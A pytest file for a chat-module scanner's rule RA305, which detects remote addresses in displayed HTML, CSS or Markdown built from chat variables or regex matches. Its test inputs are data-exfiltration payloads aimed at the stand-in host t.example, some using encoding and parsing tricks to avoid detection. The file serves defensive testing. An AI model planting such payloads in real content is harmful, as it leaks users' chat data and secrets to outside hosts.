"""RA305: a remote address in displayed HTML, CSS or Markdown built from chat data (a CBS
tag, or in a regex output a replacement such as ``$1``), in many spellings; and the hosts
of running text read as a browser reads an authority (``https://user@host``: the host is
``host``).  Every module here is our own, written for the idiom it tests."""

from __future__ import annotations

from typing import Any

import pytest

from risutools.analysis import analyze
from risutools.analysis.htmlscan import scan_html
from risutools.analysis.model import Analysis
from risutools.analysis.urlleaks import MAX_DYNAMIC, dynamic_urls, host_of
from risutools.formats.model import Module


def bg(html: str) -> Analysis:
    return analyze(Module({"name": "B", "id": "b", "backgroundEmbedding": html}))


def regex_out(out: str, kind: str = "editdisplay") -> Analysis:
    return analyze(Module({"name": "R", "id": "r", "regex": [
        {"comment": "r", "in": "(.+)", "out": out, "type": kind, "flag": "g"}]}))


def leaks(a: Analysis) -> list[str]:
    return [f.message for f in a.findings if f.rule == "RA305"]


def hosts(a: Analysis) -> set[str]:
    return {f.name for f in a.url_hosts}


@pytest.mark.parametrize(("html", "host"), [
    ('<img src="https://t.example/p.png?d={{getvar::secret}}">', "t.example"),
    ("<img src='https://t.example/{{user}}.png'>", "t.example"),
    ("<img src=https://t.example/{{lastmessage}}>", "t.example"),
    ('<IMG SRC="HTTPS://T.EXAMPLE/{{char}}">', "t.example"),
    ('<img src="//t.example/{{getvar::a}}">', "t.example"),
    ('<img src="https:\\\\t.example/{{getvar::a}}">', "t.example"),
    ('<img src="https&#58;//t.example/{{getvar::a}}">', "t.example"),
    ('<img src="&#x68;ttps://t.example/{{getvar::a}}">', "t.example"),
    ('<img srcset="https://t.example/a.png 1x, https://t.example/{{getvar::m}}.png 2x">',
     "t.example"),
    ('<video poster="https://t.example/{{getglobalvar::k}}"></video>', "t.example"),
    ('<link rel="stylesheet" href="https://t.example/s.css?{{user}}">', "t.example"),
    ('<a href="https://t.example/?q={{getvar::diary}}">more</a>', "t.example"),
    ('<div style="background: url(\'https://t.example/{{user}}\')"></div>', "t.example"),
    ('<style>.a { background: URL( https://t.example/{{user}} ) }</style>', "t.example"),
    ('<style>.a { background: url("\\68ttps://t.example/{{user}}") }</style>', "t.example"),
    ('<style>@import "https://t.example/{{getvar::x}}.css";</style>', "t.example"),
    ("![pic](https://t.example/{{getvar::x}}.png)", "t.example"),
    ("[link](https://t.example/?{{user}})", "t.example"),
    ('<img src="https://user@t.example:8443/{{user}}">', "t.example"),
    ('<img src="https://{{getvar::cdn}}/a.png">', "*"),
    ('<img src="https://t.example/{{getvar::a b}}">', "t.example"),  # a space inside CBS
    ('<img src="https://t.example/{{random::{{user}}}}">', "t.example"),  # data inside
    ('<img src="https://[2001:db8::1]/{{user}}">', "[2001:db8::1]"),
])
def test_an_address_built_from_chat_data_is_ra305(html: str, host: str) -> None:
    found = leaks(bg(html))
    assert len(found) == 1, found
    assert f"to {host} " in found[0] and "(CBS)" in found[0]


@pytest.mark.parametrize("out", [
    "![x](https://t.example/log?m=$1)",
    '<img src="https://t.example/$&">',
    '<img src="https://t.example/$<who>.png">',
    "<img src=https://t.example/$12>",
    "<div style=\"background:url(https://t.example/$1)\"></div>",
])
@pytest.mark.parametrize("kind", ["editdisplay", "editoutput", "editinput"])
def test_the_matched_text_in_a_regex_output_is_ra305(out: str, kind: str) -> None:
    found = leaks(regex_out(out, kind))
    assert len(found) == 1 and "the matched text" in found[0], found


@pytest.mark.parametrize("html", [
    '<img src="https://t.example/a.png">',
    '<img src="https://t.example/a.png?{{random}}">',  # a cache-buster
    '<img src="https://t.example/a.png?t={{unixtime}}{{br}}">',
    '<img src="{{raw::{{getvar::mood}}}}">',  # a module asset, no remote address
    '<img src="/assets/{{getvar::mood}}.png">',  # relative: the page's own
    "<p>costs $1 at https://t.example/, say hi //{{user}}</p>",  # not a regex output
    "<p>{{// a CBS comment}} and https://t.example {{user}}</p>",  # the address ends
    '<img src="data:image/png;base64,{{getvar::b64}}">',  # not remote
])
def test_no_chat_data_to_a_remote_address_is_quiet(html: str) -> None:
    assert leaks(bg(html)) == []


def test_a_regex_replacement_outside_a_regex_output_is_text() -> None:
    assert leaks(bg('<img src="https://t.example/$1">')) == []
    assert leaks(regex_out('<img src="https://t.example/a.png">')) == []


def test_the_host_of_running_text_is_the_authoritys_host() -> None:
    a = bg('see https://user:pw@real.example:8080/x and https://plain.example, '
           '<a href="https&#58;//decoded.example/">x</a>')
    assert hosts(a) == {"real.example", "plain.example", "decoded.example"}
    assert "user" not in hosts(a)


@pytest.mark.parametrize(("authority", "host"), [
    ("Example.COM", "example.com"), ("u@h.example", "h.example"),
    ("u:p@h.example:80", "h.example"), ("h.example.", "h.example"),
    ("%68.example", "h.example"), ("[::1]:80", "[::1]"), ("{{getvar::h}}", "*"),
    ("bad host", None), ("", None), ("-x.example", None), ("a_b.example", "a_b.example"),
])
def test_host_of(authority: str, host: str | None) -> None:
    assert host_of(authority) == host


def test_bounded_on_hostile_text() -> None:
    many = "".join(f'<img src="https://h{i}.example/{{{{user}}}}">' for i in range(500))
    assert len(dynamic_urls(many, False)) == MAX_DYNAMIC
    assert len(scan_html(many).leaks) <= 100
    # no address end and an open CBS tag: one walk to the end, then the search goes on
    hostile = "https://h.example/" + "{{" * 50_000 + "x" * 100_000
    assert [h for _, h, _ in dynamic_urls(hostile, False)] == ["h.example"]
    slashes = "//" * 100_000 + "{{user}}"
    # a browser passes over every slash after the first two: the host is the CBS tag's
    assert dynamic_urls(slashes, True, bare=True) == [(0, "*", "CBS")]


def test_evidence_names_the_field_and_line_not_the_code() -> None:
    a = bg('<p>x</p>\n<img src="https://t.example/?s={{getvar::secret_key}}">')
    f = next(f for f in a.findings if f.rule == "RA305")
    assert f.evidence == "backgroundEmbedding line 2"
    assert "secret_key" not in f.message and "getvar" not in f.message


def _module(**data: Any) -> Module:
    return Module({"name": "M", "id": "m", **data})


def test_a_trigger_that_writes_a_message_with_such_an_address() -> None:
    trig = {"comment": "t", "type": "output", "conditions": [], "effect": [
        {"type": "systemprompt", "location": "start",
         "value": '<img src="https://t.example/{{getvar::x}}">'}]}
    a = analyze(_module(trigger=[trig]))
    # a system prompt is sent to the model, not shown: only HTML RisuAI shows is read
    assert leaks(a) == []
